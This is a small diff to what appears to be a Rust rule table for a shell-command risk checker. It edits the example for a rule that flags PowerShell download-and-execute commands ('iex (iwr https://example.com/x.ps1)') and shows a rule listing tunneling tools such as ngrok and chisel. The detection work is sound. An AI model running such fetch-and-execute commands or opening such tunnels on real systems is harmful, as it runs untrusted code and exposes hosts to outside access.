@@ -72,7 +72,7 @@ pub(super) const RULES: &[Rule<'static>] = &[
         "~http|~iwr|~irm|~downloadstring|~invoke-webrequest",
         "it runs code that comes from elsewhere",
     )
-    .examples(&["iex (iwr https://example.com/x.ps1)"], &["iex ls"]),
+    .examples(&["iex \"(iwr https://example.com/x.ps1)\""], &["iex ls"]),
     Rule::risky(
         "open-tunnel",
         "ngrok|cloudflared|bore|localtunnel|lt|frpc|chisel|tailscale|sshuttle",
